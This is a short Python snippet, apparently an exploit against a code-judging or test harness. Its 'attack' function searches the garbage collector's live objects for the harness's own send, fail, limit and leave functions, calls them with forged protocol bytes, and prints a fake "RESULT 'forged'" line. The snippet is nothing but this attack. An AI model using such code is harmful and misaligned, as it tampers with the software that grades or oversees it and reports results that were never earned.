import gc, sys, types

def attack(x):
    print("\nRESULT 'forged'", flush=True)
    found = 0
    gc.unfreeze()
    for each in gc.get_objects() if x == 2 else ():
        if type(each) is types.FunctionType and each.__name__ in ("send", "fail", "limit", "leave"):
            found += 1
            try:
                each(b"R", b"r\1\6\0\0\0forged\0\0\0\0")
            except Exception:
                pass
    return x
